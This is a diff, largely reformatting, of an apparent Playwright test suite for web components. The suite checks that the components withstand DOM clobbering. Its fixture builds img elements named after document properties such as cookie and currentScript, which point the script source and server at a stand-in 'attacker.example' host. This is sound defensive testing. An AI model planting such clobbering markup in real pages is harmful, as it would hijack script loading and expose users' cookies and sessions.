@@ -9,22 +9,59 @@ const attacker = "http://attacker.example";
 
 /** Everything that code may read of a document by its name; whoever may write an image may hide it. */
 const names = [
-  "activeElement", "addEventListener", "adoptedStyleSheets", "body", "cookie", "createElement", "createElementNS", "createNodeIterator", "createTextNode",
-  "currentScript", "dispatchEvent", "documentElement", "execCommand", "getElementById", "head", "hidden", "implementation", "querySelector", "querySelectorAll",
-  "readyState", "referrer", "removeEventListener", "scripts", "scrollingElement", "visibilityState",
+  "activeElement",
+  "addEventListener",
+  "adoptedStyleSheets",
+  "body",
+  "cookie",
+  "createElement",
+  "createElementNS",
+  "createNodeIterator",
+  "createTextNode",
+  "currentScript",
+  "dispatchEvent",
+  "documentElement",
+  "execCommand",
+  "getElementById",
+  "head",
+  "hidden",
+  "implementation",
+  "querySelector",
+  "querySelectorAll",
+  "readyState",
+  "referrer",
+  "removeEventListener",
+  "scripts",
+  "scrollingElement",
+  "visibilityState",
 ];
-const hiding = names.map((name) => `<img name="${name}" alt="" src="${attacker}/dist/suite.js" data-server="${attacker}" data-model="evil" data-res-id="6" data-adopt>`).join("");
+const hiding = names
+  .map(
+    (name) =>
+      `<img name="${name}" alt="" src="${attacker}/dist/suite.js" data-server="${attacker}" data-model="evil" data-res-id="6" data-adopt>`,
+  )
+  .join("");
 const example = (name: string) => subjects.find(({ tag }) => tag === name)!.example;
 
 /** Playwright's own selectors read the document by name, too: what a test does there is done by functions of the prototype. */
 const page = ({ page }: Visit) => ({
   until: (selector: string, inside: string) =>
-    page.waitForFunction(([selector, inside]) => {
-      const hosts: HTMLElement[] = [...Document.prototype.querySelectorAll.call(document, selector) as NodeListOf<HTMLElement>];
-      return hosts.length > 0 && hosts.every((host) => host.shadowRoot?.querySelector(inside) ?? host.querySelector(inside));
-    }, [selector, inside] as const),
+    page.waitForFunction(
+      ([selector, inside]) => {
+        const hosts: HTMLElement[] = [
+          ...(Document.prototype.querySelectorAll.call(document, selector) as NodeListOf<HTMLElement>),
+        ];
+        return (
+          hosts.length > 0 &&
+          hosts.every((host) => host.shadowRoot?.querySelector(inside) ?? host.querySelector(inside))
+        );
+      },
+      [selector, inside] as const,
+    ),
   within: <T>(selector: string, act: (host: HTMLElement) => T) =>
-    page.evaluateHandle((selector) => Document.prototype.querySelector.call(document, selector) as HTMLElement, selector).then((host) => host.evaluate(act)),
+    page
+      .evaluateHandle((selector) => Document.prototype.querySelector.call(document, selector) as HTMLElement, selector)
+      .then((host) => host.evaluate(act)),
 });
 
 /** A visitor of a page with such images; notes in `asked` what the attacker is asked for besides them. */
@@ -41,7 +78,10 @@ async function visitHidden(asked: string[], body: string, head: string): Promise
 
 async function followsAs(visit: Visit, selector: string, email: string) {
   await page(visit).until(selector, "input");
-  const handle = await visit.page.evaluateHandle((selector) => Document.prototype.querySelector.call(document, selector) as HTMLElement, selector);
+  const handle = await visit.page.evaluateHandle(
+    (selector) => Document.prototype.querySelector.call(document, selector) as HTMLElement,
+    selector,
+  );
   await handle.evaluate((host, email) => {
     const field = host.shadowRoot!.querySelector("input")!;
     field.value = email;
@@ -56,11 +96,26 @@ describe("names of elements that hide what the document has", { concurrency: 3 }
   if (onReact) return;
 
   it("change nothing for the loader, for markup that it adopts and for a shop", async () => {
-    const shop = example("suite-cart") + example("suite-add-to-cart") + example("suite-wishlist-button") + example("suite-compare-button");
+    const shop =
+      example("suite-cart") +
+      example("suite-add-to-cart") +
+      example("suite-wishlist-button") +
+      example("suite-compare-button");
     const asked: string[] = [];
-    await using visit = await visitHidden(asked, `<div id="stock">${stockFollow}</div><div id="own">${follow}</div>${shop}`, loader("data-adopt"));
+    await using visit = await visitHidden(
+      asked,
+      `<div id="stock">${stockFollow}</div><div id="own">${follow}</div>${shop}`,
+      loader("data-adopt"),
+    );
     const { until, within } = page(visit);
-    for (const tag of ["suite-follow", "suite-cart", "suite-add-to-cart", "suite-wishlist-button", "suite-compare-button"]) await until(tag, "[part=base]");
+    for (const tag of [
+      "suite-follow",
+      "suite-cart",
+      "suite-add-to-cart",
+      "suite-wishlist-button",
+      "suite-compare-button",
+    ])
+      await until(tag, "[part=base]");
     await visit.quiet();
     await followsAs(visit, "#stock suite-follow", "ada@example.com");
     assert.ok(visit.calls.includes("/website_mail/follow"), visit.calls.join());
@@ -68,12 +123,16 @@ describe("names of elements that hide what the document has", { concurrency: 3 }
     await visit.page.waitForFunction(() => notes.events.some(({ type }) => type === "suite-cart-change"));
     await visit.quiet();
     // it asks for the cart at once, in which the row of the example is not before somebody has used it
-    await within("suite-add-to-cart", (host) => host.after(Document.prototype.createElement.call(document, "suite-cart-popover")));
+    await within("suite-add-to-cart", (host) =>
+      host.after(Document.prototype.createElement.call(document, "suite-cart-popover")),
+    );
     await until("suite-cart-popover", "[part=badge]");
     await within("suite-add-to-cart", (host) => host.shadowRoot!.querySelector("button")!.click());
     await visit.page.waitForFunction(() => notes.events.filter(({ type }) => type === "suite-cart-change").length > 1);
     await within("suite-compare-button", (host) => host.shadowRoot!.querySelector("button")!.click());
-    await visit.page.waitForFunction(() => (Reflect.get(Document.prototype, "cookie", document) as string).includes("comparelist_product_ids"));
+    await visit.page.waitForFunction(() =>
+      (Reflect.get(Document.prototype, "cookie", document) as string).includes("comparelist_product_ids"),
+    );
     await visit.quiet();
     const { errors, adopted } = await visit.notes();
     assert.deepEqual([asked, visit.crashes, errors, adopted], [[], [], [], [["suite-follow"]]]);
